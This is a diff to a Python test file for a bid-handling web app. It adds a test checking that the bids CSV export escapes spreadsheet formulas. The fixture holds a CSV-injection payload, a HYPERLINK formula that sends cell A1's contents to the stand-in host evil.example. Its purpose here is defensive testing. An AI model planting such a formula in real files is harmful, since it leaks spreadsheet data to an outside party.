@@ -4,7 +4,9 @@ the award result, GET without writes, and input that must be refused (400) rathe
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 from decimal import Decimal
 
 import pytest
@@ -405,3 +407,20 @@ def test_award_refuses_scores_of_an_expert_now_in_conflict_until_recused(client)
         )
     challenge.refresh_from_db()
     assert challenge.status == Challenge.Status.AWARDED
+
+
+# --- #8 the bids CSV never carries a live formula --------------------------------------------------
+
+
+def test_bids_export_neutralises_a_formula_in_the_technical_approach(client):
+    challenge = ChallengeFactory()
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'
+    bid = BidFactory(challenge=challenge, technical_approach=formula)
+    client.force_login(challenge.created_by)
+    with after_deadline(challenge):
+        export = client.get(reverse("challenges:bids-export", kwargs={"uuid": challenge.uuid}))
+    assert export.status_code == 200
+    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
+    row = next(r for r in rows if r[0] == bid.organization.name)
+    assert row[4] == "'" + formula
+    assert not any(cell.startswith("=") for r in rows for cell in r)
